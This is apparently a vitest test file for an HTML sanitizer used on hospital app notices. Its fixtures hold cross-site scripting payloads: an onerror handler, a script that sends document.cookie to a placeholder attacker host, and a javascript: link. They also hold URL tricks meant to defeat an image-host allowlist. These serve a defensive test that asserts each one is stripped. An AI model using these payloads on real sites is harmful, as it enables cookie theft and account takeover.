import { describe, expect, it } from 'vitest'
import { sanitizeNoticeHtml } from './notice-html'

/**
 * The body of notice 1039 as mocks/seed/hospital/notices.ts seeds it (the seed builder needs
 * Node, so it is copied here; the NoticeDetail story renders the seeded one itself).
 */
const notice1039 = {
  contents:
    '<p>앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다.</p>' +
    '<img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script>' +
    '<a href="javascript:alert(1)">업데이트 하러 가기</a>',
}

function render(html: string): HTMLElement {
  const root = document.createElement('div')
  root.innerHTML = sanitizeNoticeHtml(html)
  return root
}

describe('sanitizeNoticeHtml with DOMPurify (Chromium)', () => {
  it('renders notice 1039 harmless: no script, no handler, no javascript: link', () => {
    expect(notice1039.contents).toContain('<script>')
    const root = render(notice1039.contents)
    expect(root.querySelector('script')).toBeNull()
    expect(root.querySelectorAll('[onerror], [onclick], [onload]')).toHaveLength(0)
    expect(root.innerHTML).not.toMatch(/javascript:|onerror|document\.cookie/i)
    // The text survives; the link without its script is no longer a link.
    expect(root.textContent).toContain('업데이트 하러 가기')
    expect(root.querySelector('a[href]')).toBeNull()
    // The image from nowhere ("x") is dropped rather than loaded.
    expect(root.querySelector('img')).toBeNull()
  })

  it('keeps plain formatting, safe links and the app’s own images', () => {
    const root = render(
      '<p style="position:fixed">공지 <strong>중요</strong></p><ul><li>하나</li></ul>' +
        '<a href="https://hanbit-hospital.kr/notice">자세히</a><img src="/images/map.png"><iframe src="https://evil.example"></iframe>',
    )
    expect(root.querySelector('p')?.getAttribute('style')).toBeNull()
    expect(root.querySelector('strong')?.textContent).toBe('중요')
    expect(root.querySelector('li')?.textContent).toBe('하나')
    expect(root.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(root.querySelector('img')?.getAttribute('alt')).toBe('')
    expect(root.querySelector('iframe')).toBeNull()
  })

  it("loads pictures only from the hospital's own hosts (no tracking pixel from elsewhere)", () => {
    const root = render(
      '<img src="https://www.hanbit-hospital.kr/notice/map.png" alt="약도">' +
        '<img src="https://hanbit-hospital.kr/a.png">' +
        '<img src="https://tracker.example/pixel.gif?u=1">' +
        '<img src="https://hanbit-hospital.kr.evil.example/p.gif">' +
        '<img src="http://www.hanbit-hospital.kr/plain.png">' +
        '<img src="//tracker.example/p.gif">' +
        '<img src="https://user@hanbit-hospital.kr/p.gif">' +
        // Read by the browser as //evil.example/p.gif: a backslash is a slash, a tab is dropped.
        '<img src="/\\evil.example/p.gif">' +
        '<img src="/&#9;/evil.example/p.gif">' +
        '<img src="/\t/evil.example/p.gif">',
    )
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      'https://www.hanbit-hospital.kr/notice/map.png',
      'https://hanbit-hospital.kr/a.png',
    ])
  })
})
